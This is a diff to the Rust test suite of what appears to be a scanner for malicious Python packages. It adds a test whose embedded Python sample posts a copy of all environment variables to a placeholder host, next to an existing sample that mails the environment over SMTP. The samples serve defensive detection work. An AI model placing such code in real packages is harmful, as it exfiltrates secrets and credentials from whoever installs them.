@@ -619,6 +619,12 @@ mod tests {
     }
 
     #[test]
+    fn an_item_stored_in_a_self_attribute_is_shared_by_the_methods() {
+        let code = "import os, requests\nclass C:\n    def gather(self):\n        self.data['env'] = dict(os.environ)\n        return self\n    def ship(self):\n        requests.post('https://example.invalid/i', json=self.data)\nC().gather().ship()\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.6);
+    }
+
+    #[test]
     fn mail_and_ftp_sessions_are_network_sinks() {
         let mail = "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(str(dict(os.environ)))\ns = smtplib.SMTP('smtp.example.invalid', 587)\ns.send_message(m)\n";
         assert!(max_severity("p/pkg/__init__.py", mail, "WH200") >= 0.6);
